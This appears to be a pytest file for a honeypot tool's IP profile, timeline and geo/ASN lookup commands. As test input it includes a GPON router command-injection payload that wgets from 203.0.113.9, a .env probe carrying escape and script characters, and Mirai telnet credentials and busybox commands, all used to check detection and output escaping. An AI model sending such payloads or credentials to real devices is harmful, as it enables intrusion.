"""test_ip_geo.py - `hanipo ip ADDR` (profile and timeline) and geo/ASN: a MaxMind test country
database through the config, ASN ranges loaded with `hanipo geo import`, and `--` everywhere when
there is no database."""
import json
import sqlite3

from conftest import ROOT, SHARED
from test_signatures import SIGDIR, insert_rows, send_and_get

MMDB = SHARED / "data" / "mmdb"
COUNTRY_DB = MMDB / "GeoLite2-Country-Test.mmdb"
GB_ADDR = "2.125.160.216"         # GB in GeoLite2-Country-Test.source.json
SE_ADDR6 = "2001:218::1"           # JP in the same file (2001:218::/32)


def country_of(addr):
    """The expected country from the .source.json (most specific network)."""
    import ipaddress
    best, blen = None, -1
    for entry in json.loads((MMDB / "GeoLite2-Country-Test.source.json").read_text()):
        for net, rec in entry.items():
            n = ipaddress.ip_network(net)
            a = ipaddress.ip_address(addr)
            if a.version == n.version and a in n and n.prefixlen > blen:
                best = (rec.get("country") or rec.get("registered_country") or {}).get("iso_code")
                blen = n.prefixlen
    return best or "--"


def write_csv(tmp_path):
    p4, p6 = tmp_path / "asn-ipv4.csv", tmp_path / "asn-ipv6.csv"
    p4.write_text("ip_range_start,ip_range_end,autonomous_system_number,"
                  "autonomous_system_organization\n"
                  "2.125.160.0,2.125.160.255,64496,\"Example, Ltd\"\n"
                  "127.0.0.0,127.255.255.255,64511,LOOPBACK-AS\n"
                  "garbage\n")
    p6.write_text("2001:218::,2001:218:ffff:ffff:ffff:ffff:ffff:ffff,2914,NTT-COMMUNICATIONS\n")
    return p4, p6


def test_geo_import_and_lookup(make_hanipo, tmp_path):
    h = make_hanipo(f"geo.country_db={COUNTRY_DB}", start=False)
    p4, p6 = write_csv(tmp_path)
    r = h.cli("geo", "import", str(p4), str(p6))          # creates the store
    assert "3 ASN ranges imported" in r.stdout, r.stdout
    assert f"{p4}:4: expected first,last,asn,organisation" in r.stderr
    r = h.cli("geo", "lookup", GB_ADDR, SE_ADDR6, "10.1.1.1", "127.0.0.1")
    lines = [ln.split("\t") for ln in r.stdout.splitlines()]
    assert lines[0] == [GB_ADDR, country_of(GB_ADDR), "AS64496 Example, Ltd"]
    assert lines[1] == [SE_ADDR6, country_of(SE_ADDR6), "AS2914 NTT-COMMUNICATIONS"]
    assert lines[2] == ["10.1.1.1", "--", "--"]
    assert lines[3] == ["127.0.0.1", "--", "AS64511 LOOPBACK-AS"]
    # A file that is missing aborts the import and changes nothing.
    r = h.cli("geo", "import", str(tmp_path / "nope.csv"), check=False)
    assert r.returncode == 2 and "nope.csv" in r.stderr and "nothing changed" in r.stderr
    r = h.cli("geo", "lookup", GB_ADDR)
    assert "AS64496" in r.stdout
    r = h.cli("geo", "lookup", "not-an-address", check=False)
    assert r.returncode == 2


def test_geo_without_databases(make_hanipo):
    h = make_hanipo("geo.country_db=", start=False)
    r = h.cli("geo", "lookup", GB_ADDR)
    assert r.stdout.split("\t") == [GB_ADDR, "--", "--\n"]
    # A broken database is an error naming it, from check too.
    bad = MMDB / "GeoIP2-City-Test-Invalid-Node-Count.mmdb"
    h2 = make_hanipo(f"geo.country_db={bad}", start=False)
    r = h2.cli("check", check=False)
    assert r.returncode == 2 and str(bad) in r.stderr, r.stderr


def test_ip_profile_and_timeline(make_hanipo, tmp_path):
    h = make_hanipo(f"signatures.path={SIGDIR}", f"geo.country_db={COUNTRY_DB}")
    a = send_and_get(h, "GET", "/.env?evil\x1b[31m|`<script>", [], None)
    b = send_and_get(h, "POST", "/GponForm/diag_Form?images/", [],
                     "XWebPageName=diag&dest_host=`wget+http://203.0.113.9/g`&ipv=0")
    h.stop()
    p4, p6 = write_csv(tmp_path)
    h.cli("geo", "import", str(p4), str(p6))
    t0 = 1_790_000_000_000_000
    insert_rows(h.store, [
        ("telnet", "connect", {}, ["mirai"], t0),
        ("telnet", "login", {"user": "root", "password": "xc3511", "success": True}, [], t0 + 1),
        ("telnet", "command", {"command": "/bin/busybox ECCHI"}, [], t0 + 2),
    ])
    con = sqlite3.connect(h.store)
    with con:
        con.execute("UPDATE events SET src_ip = ? WHERE sensor = 'other-sensor'", (GB_ADDR,))
        con.execute("UPDATE src_ranges SET ip = ? WHERE ip = '198.51.100.7'", (GB_ADDR,))
    con.close()
    h.cli("classify")

    r = h.cli("ip", "127.0.0.1")
    out = r.stdout
    assert "country       --" in out
    assert "AS            AS64511 LOOPBACK-AS" in out
    assert "in 3 sessions" in out          # hanipo's start-up probe is one
    assert "env-file-leak (1)  .env file read attempt" in out
    assert "gpon-rce (1)" in out and "CVE-2018-10562" in out
    assert "http://203.0.113.9/g (1)" in out
    assert "POST /GponForm/diag_Form?images/ (1)" in out
    assert "\x1b" not in out and "GET /.env?evil\\x1b[31m|`<script> (1)" in out
    timeline = out.split("\ntimeline\n")[1].splitlines()
    # probe: connect, close; connect, request, close; connect, request, url, close
    assert len(timeline) == 9, timeline
    assert "GET /.env?evil\\x1b[31m|`<script> 400" in timeline[3]     # cut short: 400
    assert timeline[3].endswith("[env-file-leak]")
    assert "POST /GponForm/diag_Form?images/" in timeline[6]
    assert "gpon-rce" in timeline[6] and "download_url" in timeline[7]
    times = [ln.split()[0] for ln in timeline]
    assert times == sorted(times)

    r = h.cli("ip", GB_ADDR)
    out = r.stdout
    assert f"country       {country_of(GB_ADDR)}" in out
    assert "AS64496 Example, Ltd" in out
    assert "root / xc3511 (1)" in out
    assert "/bin/busybox ECCHI (1)" in out
    for sig in ("mirai-syn", "telnet-bruteforce", "mirai-credentials", "mirai-busybox-check"):
        assert sig in out, (sig, out)
    assert "telnet/23 (3)" in out

    r = h.cli("ip", GB_ADDR, "--json")
    j = json.loads(r.stdout)
    assert j["ip"] == GB_ADDR and j["country"] == country_of(GB_ADDR)
    assert j["asn"] == 64496 and j["as_org"] == "Example, Ltd"
    assert j["events"] == 3 and j["sessions"] == 1
    assert {"user": "root", "password": "xc3511", "count": 1} in j["credentials"]
    sigs = {s["id"]: s for s in j["signatures"]}
    assert sigs["mirai-credentials"]["signature"]["abuseipdb"] == [18, 23]
    assert [e["kind"] for e in j["timeline"]] == ["connect", "login", "command"]

    # Windows and limits; an address never seen; a bad address.
    assert "events        none" in h.cli("ip", "192.0.2.1").stdout
    r = h.cli("ip", GB_ADDR, "--until", "@1790000000")
    assert "events        none" in r.stdout
    r = h.cli("ip", "127.0.0.1", "-n", "2")
    assert len(r.stdout.split("\ntimeline\n")[1].splitlines()) == 2
    r = h.cli("ip", "::ffff:127.0.0.1", "-n", "0")
    assert "in 3 sessions" in r.stdout and "timeline" not in r.stdout
    r = h.cli("ip", "1.2.3", check=False)
    assert r.returncode == 2 and "not an IPv4 or IPv6 address" in r.stderr
